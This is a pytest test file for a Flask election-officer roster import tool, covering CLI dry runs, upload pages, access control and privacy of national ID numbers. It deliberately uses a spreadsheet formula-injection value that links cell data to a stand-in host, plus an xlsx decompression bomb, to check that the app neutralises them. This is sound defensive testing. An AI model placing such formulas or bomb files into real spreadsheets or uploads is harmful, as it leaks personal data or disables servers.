"""Importing the roster: `flask roster import` and the KPU upload pages."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from screening.demo.operations import load_regions
from screening.store import officers
from tests.roster.helpers import (
    CITY,
    HEADER,
    csv_bytes,
    good_cells,
    nik,
    table,
    xlsx_bomb,
    xlsx_bytes,
)

SIXTEEN_DIGITS = re.compile(r"\d{16}")


@pytest.fixture
def app(app, tmp_path):
    # Uploads go to the test's own folder, not the checkout's instance folder.
    app.config["ROSTER_UPLOAD_DIR"] = str(tmp_path / "uploads")
    return app


@pytest.fixture
def city(db):
    """The demo city's kecamatan, kelurahan and FKTPs, without officers."""
    load_regions(db, CITY)
    return CITY


def roster_file(*rows):
    """Two good officers and one bad row (unknown role) unless rows are given."""
    rows = rows or (good_cells(9001), good_cells(9002), good_cells(9003, role="Saksi"))
    return xlsx_bytes(table(list(rows)))


def officer_by_nik(db, value):
    return next(db["officer"].rows_where("nik = ?", [value]), None)


def add_response(db, officer_id):
    db["response"].insert(
        {
            "officer_id": officer_id,
            "questionnaire_id": "skrining-petugas-pemilu",
            "questionnaire_version": "1",
            "status": "submitted",
            "step": 5,
            "answers": json.dumps({"tekanan_darah": "tinggi"}),
            "context": json.dumps({"polling_day": "2029-02-14"}),
            "result": json.dumps({"overall": "berisiko"}),
            "overall": "berisiko",
            "referral_urgency": "segera",
            "started_at": "2029-01-10T01:00:00+00:00",
            "updated_at": "2029-01-10T01:30:00+00:00",
            "submitted_at": "2029-01-10T01:30:00+00:00",
        }
    )


# -- The command ---------------------------------------------------------------------------------


def test_cli_dry_run_counts_and_lists_rejected_rows_but_writes_nothing(runner, db, city, tmp_path):
    source = tmp_path / "petugas.xlsx"
    source.write_bytes(roster_file())
    result = runner.invoke(args=["roster", "import", str(source), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "Baru: 2, diperbarui: 0, tetap: 0, ditolak: 1." in result.output
    assert "baris 4: Jabatan “Saksi” tidak dikenal" in result.output
    assert "Uji coba" in result.output
    assert officers.count_officers(db) == 0
    assert not SIXTEEN_DIGITS.search(result.output)


def test_cli_dry_run_keeps_officers_with_a_bad_secondary_value_and_warns_by_row(
    runner, db, city, tmp_path
):
    source = tmp_path / "petugas.xlsx"
    source.write_bytes(
        roster_file(
            good_cells(9001, bpjs_tk_status="Terdaftar"),
            good_cells(9002, bpjs_tk_status="Mungkin", phone="12345"),
            good_cells(9003, jkn_status="Kadang"),
        )
    )
    result = runner.invoke(args=["roster", "import", str(source), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "Baru: 3, diperbarui: 0, tetap: 0, ditolak: 0." in result.output
    assert "Peringatan: 3" in result.output
    assert "baris 3: Status BPJS Ketenagakerjaan “Mungkin” tidak dikenal" in result.output
    assert "baris 3: Nomor HP “12345” tidak valid" in result.output
    assert "baris 4: Status JKN “Kadang” tidak dikenal" in result.output
    assert not SIXTEEN_DIGITS.search(result.output)


def test_cli_import_stores_the_warned_officer_with_the_field_empty(runner, db, city, tmp_path):
    source = tmp_path / "petugas.xlsx"
    source.write_bytes(
        roster_file(good_cells(9001, bpjs_tk_status="Terdaftar"), good_cells(9002, jkn_status="?"))
    )
    result = runner.invoke(args=["roster", "import", str(source)])
    assert result.exit_code == 0, result.output
    assert officer_by_nik(db, nik(9001))["bpjs_tk_status"] == "aktif"
    warned = officer_by_nik(db, nik(9002))
    assert warned["jkn_status"] is None
    assert warned["phone"] == "081234567890"


def test_cli_import_writes_the_good_rows_and_hands_back_the_rejected_ones(
    runner, db, city, tmp_path
):
    source = tmp_path / "petugas.xlsx"
    source.write_bytes(roster_file())
    result = runner.invoke(args=["roster", "import", str(source)])
    assert result.exit_code == 0, result.output
    assert "Baru: 2, diperbarui: 0, tetap: 0, ditolak: 1." in result.output
    assert officers.count_officers(db) == 2
    assert officer_by_nik(db, nik(9001))["kelurahan_code"] == "3375011002"
    rejected = tmp_path / "petugas-ditolak.csv"
    assert str(rejected) in result.output
    rows = list(csv.reader(io.StringIO(rejected.read_text("utf-8-sig")), delimiter=";"))
    assert rows[0] == [*HEADER, "Alasan ditolak"]
    assert [r[0] for r in rows[1:]] == [nik(9003)]
    assert not SIXTEEN_DIGITS.search(result.output)


def test_cli_refuses_a_file_that_is_no_roster_in_indonesian(runner, db, city, tmp_path):
    source = tmp_path / "foto.csv"
    source.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    result = runner.invoke(args=["roster", "import", str(source)])
    assert result.exit_code == 1
    assert "bukan CSV atau Excel" in result.output
    assert "Traceback" not in result.output


def test_import_is_one_transaction_a_failure_part_way_writes_nothing(
    runner, db, city, tmp_path, monkeypatch
):
    runner.invoke(args=["roster", "import", str(_write(tmp_path, roster_file(good_cells(9001))))])
    before = officers.roster_fingerprint(db)

    def fail(*args, **kwargs):
        raise RuntimeError("disk full")

    # The new officer is inserted first, then the changed one updated: make the update fail.
    monkeypatch.setattr(officers, "_update_changed", fail)
    changed = roster_file(good_cells(9001, phone="0899 1111 2222"), good_cells(9002))
    result = runner.invoke(args=["roster", "import", str(_write(tmp_path, changed))])
    assert result.exit_code != 0
    assert officers.roster_fingerprint(db) == before


def _write(tmp_path, data, name="petugas.xlsx"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_reimport_updates_officers_by_nik_and_never_touches_their_screenings(
    runner, db, city, tmp_path
):
    first = roster_file(good_cells(9001), good_cells(9002))
    runner.invoke(args=["roster", "import", str(_write(tmp_path, first))])
    officer = officer_by_nik(db, nik(9001))
    add_response(db, officer["id"])
    response_before = list(db["response"].rows)

    # The file moves officer 9001 to TPS 7 and has no phone column at all.
    second_rows = [good_cells(9001, tps="TPS 07"), good_cells(9002)]
    for cells in second_rows:
        del cells["phone"]
    header = [h for h in HEADER if h != "No HP"]
    result = runner.invoke(
        args=["roster", "import", str(_write(tmp_path, xlsx_bytes(table(second_rows, header))))]
    )
    assert "Baru: 0, diperbarui: 1, tetap: 1, ditolak: 0." in result.output
    after = officer_by_nik(db, nik(9001))
    assert after["id"] == officer["id"]
    assert after["tps"] == 7
    assert after["phone"] == "081234567890"  # kept: the file had no phone column
    assert list(db["response"].rows) == response_before
    assert officers.count_officers(db) == 2


# -- The pages -----------------------------------------------------------------------------------


def upload(client, data, filename="petugas.xlsx"):
    return client.post(
        "/kpu/roster/",
        data={"file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get("/kpu/roster/")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/staf/masuk")


@pytest.mark.parametrize(("role", "status"), [("kpu", 200), ("admin", 200), ("fktp", 403)])
def test_only_kpu_and_admin_may_upload(client, sign_in, role, status):
    sign_in(role)
    assert client.get("/kpu/roster/").status_code == status


def test_staff_home_links_to_the_upload_for_kpu(client, sign_in):
    sign_in("kpu")
    assert 'href="/kpu/roster/"' in client.get("/staf/").text


def test_upload_preview_import_done_and_rejected_rows_download(client, sign_in, db, city, app):
    sign_in("kpu")
    count_before = officers.count_officers(db)
    response = upload(client, roster_file())
    assert response.status_code == 302
    assert response.headers["Location"] == "/kpu/roster/pratinjau"
    uploads = list(Path(app.config["ROSTER_UPLOAD_DIR"]).iterdir())
    assert len(uploads) == 1

    preview = client.get("/kpu/roster/pratinjau")
    assert preview.status_code == 200
    page = preview.text
    assert "Impor 2 baris yang benar" in page
    assert "Jabatan “Saksi” tidak dikenal" in page
    assert "Siti Rahayu 9003" in page
    assert officers.count_officers(db) == count_before  # the preview wrote nothing

    response = client.post("/kpu/roster/impor")
    assert response.status_code == 302
    assert response.headers["Location"] == "/kpu/roster/selesai"
    assert officers.count_officers(db) == 2
    done = client.get("/kpu/roster/selesai").text
    assert "Daftar petugas sudah diimpor" in done
    assert "/kpu/roster/ditolak.xlsx" in done

    # Pressing import again (back button) imports nothing twice.
    assert client.post("/kpu/roster/impor").headers["Location"] == "/kpu/roster/selesai"

    download = client.get("/kpu/roster/ditolak.csv")
    assert download.status_code == 200
    assert download.headers["Cache-Control"] == "no-store"
    assert "petugas-ditolak.csv" in download.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(download.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][-1] == "Alasan ditolak"
    assert [r[0] for r in rows[1:]] == [nik(9003)]
    assert "Jabatan “Saksi” tidak dikenal" in rows[1][-1]

    # Imported and handed back: the uploaded file is gone.
    assert uploads[0].exists() is False
    assert "sudah diunduh" in client.get("/kpu/roster/selesai").text


def test_preview_lists_warnings_with_row_numbers_and_imports_those_officers(
    client, sign_in, db, city
):
    sign_in("kpu")
    upload(
        client,
        roster_file(
            good_cells(9001, bpjs_tk_status="Terdaftar"),
            good_cells(9002, bpjs_tk_status="Mungkin"),
        ),
    )
    page = client.get("/kpu/roster/pratinjau").text
    assert "Impor 2 baris yang benar" in page
    assert "Baris dengan peringatan" in page
    warnings = page.split("Baris dengan peringatan")[1]
    assert ">3</th>" in warnings
    assert "Siti Rahayu 9002" in warnings
    assert "Status BPJS Ketenagakerjaan “Mungkin” tidak dikenal" in warnings
    assert "Siti Rahayu 9001" not in warnings
    client.post("/kpu/roster/impor")
    assert officer_by_nik(db, nik(9002))["bpjs_tk_status"] is None
    assert officer_by_nik(db, nik(9001))["bpjs_tk_status"] == "aktif"


def test_rejected_rows_download_as_xlsx_before_import(client, sign_in, city):
    import openpyxl

    sign_in("kpu")
    upload(client, roster_file())
    response = client.get("/kpu/roster/ditolak.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert values[0][-1] == "Alasan ditolak"
    assert [v[0] for v in values[1:]] == [nik(9003)]
    # Not yet imported: the file stays for the import.
    assert client.get("/kpu/roster/pratinjau").status_code == 200


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "foto.csv", "bukan CSV atau Excel"),
        (b"PK\x03\x04" + bytes(64), "rusak.xlsx", "Berkas Excel ini rusak"),
        (b"", "kosong.csv", "Berkas kosong."),
        (b"NIK;Nama\n1;2\n", "x.csv", "Kolom wajib tidak ditemukan: Jabatan, Kelurahan/Desa"),
        (b"%PDF-1.7", "surat.pdf", "Pilih berkas CSV atau Excel (.xlsx)."),
    ],
    ids=["image", "broken xlsx", "empty", "missing columns", "pdf extension"],
)
def test_a_file_that_is_no_roster_gets_a_plain_message_not_a_500(
    client, sign_in, city, data, filename, message
):
    sign_in("kpu")
    response = upload(client, data, filename)
    assert response.status_code == 422
    assert message in response.text
    assert 'aria-invalid="true"' in response.text


def test_an_xlsx_that_unpacks_to_300_mb_gets_a_plain_message(client, sign_in, city):
    sign_in("kpu")
    response = upload(client, xlsx_bomb(300), "petugas.xlsx")
    assert response.status_code == 422
    assert "terlalu besar setelah dibuka (lebih dari 50 MB)" in response.text


def test_no_file_chosen_is_asked_for(client, sign_in):
    sign_in("kpu")
    response = client.post("/kpu/roster/", data={}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Pilih berkas daftar petugas." in response.text


def test_preview_and_import_without_an_upload_send_back_to_the_form(client, sign_in):
    sign_in("kpu")
    for response in (client.get("/kpu/roster/pratinjau"), client.post("/kpu/roster/impor")):
        assert response.status_code == 302
        assert response.headers["Location"] == "/kpu/roster/"
    assert client.get("/kpu/roster/ditolak.csv").status_code == 302


def test_no_nik_appears_in_any_url(client, sign_in, city):
    sign_in("kpu")
    locations, pages = [], []
    response = upload(client, roster_file())
    locations.append(response.headers["Location"])
    pages.append(client.get("/kpu/roster/pratinjau").text)
    response = client.post("/kpu/roster/impor")
    locations.append(response.headers["Location"])
    pages.append(client.get("/kpu/roster/selesai").text)
    urls = locations + [
        url for page in pages for url in re.findall(r'(?:href|action)="([^"]*)"', page)
    ]
    assert urls
    for url in urls:
        assert not SIXTEEN_DIGITS.search(url), url


# -- Formulas in the roster come back inert -------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x"&F2,"Buka")'


def formula_roster() -> bytes:
    """A CSV (where a formula is plain text) with one good officer and one rejected row whose
    name is a formula."""
    return csv_bytes(table([good_cells(9001), good_cells(9003, role="Saksi", name=FORMULA_NAME)]))


def test_cli_hands_back_a_formula_name_as_inert_text(runner, db, city, tmp_path):
    source = _write(tmp_path, formula_roster(), "petugas.csv")
    result = runner.invoke(args=["roster", "import", str(source), "--dry-run"])
    assert result.exit_code == 0, result.output
    rejected = tmp_path / "petugas-ditolak.csv"
    rows = list(csv.reader(io.StringIO(rejected.read_text("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "'" + FORMULA_NAME


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_rejected_rows_download_hands_back_a_formula_name_as_inert_text(
    client, sign_in, city, kind
):
    import openpyxl

    sign_in("kpu")
    upload(client, formula_roster(), "petugas.csv")
    response = client.get(f"/kpu/roster/ditolak.{kind}")
    assert response.status_code == 200
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
        assert rows[1][1] == "'" + FORMULA_NAME
    else:
        cell = openpyxl.load_workbook(io.BytesIO(response.data)).active["B2"]
        assert cell.data_type != "f"
        assert cell.value == "'" + FORMULA_NAME
